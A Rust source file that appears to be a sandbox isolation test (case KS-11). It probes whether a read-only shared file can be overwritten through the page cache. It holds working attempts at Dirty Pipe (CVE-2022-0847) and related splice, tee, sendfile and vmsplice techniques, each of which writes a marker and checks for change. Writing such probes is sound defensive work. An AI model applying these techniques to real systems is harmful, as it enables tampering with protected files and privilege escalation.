//! KS-11: writing to the page cache of a file that is only readable. All sandboxes share those pages.

use std::fs::File;
use std::io::{Read, Write};
use std::net::{TcpListener, TcpStream};
use std::os::fd::{AsFd, AsRawFd};
use std::os::unix::fs::FileExt;

use crate::case::Reporter;
use crate::kernel::raw::{self, address_mut, call};

/// One way to write to a file that is open for reading.
type Attempt = fn(&File) -> std::io::Result<()>;

/// KS-11 `FILE`: opens it for writing, then tries the ways of Dirty Pipe and its relatives. A way is `open` when the
/// file reads differently afterwards; whether it does, the host judges by its own reading too.
pub fn rewrite(reporter: &Reporter, arguments: &[String]) {
    let path = std::ffi::CString::new(arguments[0].as_str()).expect("a path without NUL");
    let plain = raw::open(&path, libc::O_WRONLY);
    reporter.syscall("open for writing", plain);
    raw::close(plain);
    let file = File::open(&arguments[0]).expect("the file is readable");
    let again = std::ffi::CString::new(format!("/proc/self/fd/{}", file.as_raw_fd())).expect("no NUL");
    let again = raw::open(&again, libc::O_RDWR);
    reporter.syscall("reopen for writing", again);
    raw::close(again);

    let attempts: [(&str, Attempt); 4] = [
        ("splice then write", dirty_pipe),
        ("tee then write", tee),
        ("sendfile", sendfile),
        ("vmsplice", vmsplice),
    ];
    for (case, attempt) in attempts {
        let before = content(&file);
        let ended = attempt(&file);
        let changed = before != content(&file);
        raw::found(reporter, case, changed.then(|| format!("{ended:?}")));
    }
}

fn content(file: &File) -> Vec<u8> {
    let mut bytes = vec![0; 4096];
    let length = file.read_at(&mut bytes, 0).expect("the file is readable");
    bytes.truncate(length);
    bytes
}

fn splice(from: &impl AsFd, mut offset: i64, to: &impl AsFd, length: i64) {
    let (from, to) = (i64::from(from.as_fd().as_raw_fd()), i64::from(to.as_fd().as_raw_fd()));
    let offset = if offset < 0 { 0 } else { address_mut(&mut offset) };
    call(libc::SYS_splice, &[from, offset, to, 0, length, 0]);
}

/// CVE-2022-0847: a page of the file in a pipe slot that still carries the flag that says "append here".
fn dirty_pipe(file: &File) -> std::io::Result<()> {
    let (mut reader, mut writer) = prepared_pipe()?;
    splice(file, 0, &writer, 1);
    writer.write_all(b"DIRTY")?;
    reader.read_exact(&mut [0; 6])
}

/// The same through a second pipe, whose slot shares the page.
fn tee(file: &File) -> std::io::Result<()> {
    let (reader, writer) = std::io::pipe()?;
    let (mut second_reader, mut second_writer) = prepared_pipe()?;
    splice(file, 0, &writer, 1);
    let ends = [i64::from(reader.as_raw_fd()), i64::from(second_writer.as_raw_fd()), 1, 0];
    call(libc::SYS_tee, &ends);
    second_writer.write_all(b"DIRTY")?;
    second_reader.read_exact(&mut [0; 6])
}

/// A pipe all of whose slots have been written once and emptied.
fn prepared_pipe() -> std::io::Result<(std::io::PipeReader, std::io::PipeWriter)> {
    let (mut reader, mut writer) = std::io::pipe()?;
    let slots = [0_u8; 65536];
    writer.write_all(&slots)?;
    reader.read_exact(&mut [0; 65536])?;
    Ok((reader, writer))
}

/// The file's pages into a connection, whose receiver gives them to a pipe and writes behind them.
fn sendfile(file: &File) -> std::io::Result<()> {
    let listener = TcpListener::bind("127.0.0.1:0")?;
    let sender = TcpStream::connect(listener.local_addr()?)?;
    let (receiver, _) = listener.accept()?;
    let (mut reader, mut writer) = prepared_pipe()?;
    let mut offset = 0_i64;
    let ends = [i64::from(sender.as_raw_fd()), i64::from(file.as_raw_fd()), address_mut(&mut offset), 64];
    call(libc::SYS_sendfile, &ends);
    splice(&receiver, -1, &writer, 1);
    writer.write_all(b"DIRTY")?;
    reader.read_exact(&mut [0; 6])
}

/// A private mapping of the file given away to a pipe, then written through the pipe and through the mapping.
fn vmsplice(file: &File) -> std::io::Result<()> {
    let (mut reader, mut writer) = prepared_pipe()?;
    let access = i64::from(libc::PROT_READ | libc::PROT_WRITE);
    let kind = i64::from(libc::MAP_PRIVATE);
    let mapping = call(libc::SYS_mmap, &[0, 4096, access, kind, i64::from(file.as_raw_fd()), 0]);
    let mut part = [mapping, 1];
    call(libc::SYS_vmsplice, &[i64::from(writer.as_raw_fd()), address_mut(&mut part), 1, 8]); // SPLICE_F_GIFT
    writer.write_all(b"DIRTY")?;
    reader.read_exact(&mut [0; 6])?;
    // The kernel writes into the mapping: a copy of the page is due, not the page itself.
    let (random, length) = (libc::SYS_getrandom, 16);
    call(random, &[mapping, length, 0]);
    Ok(())
}
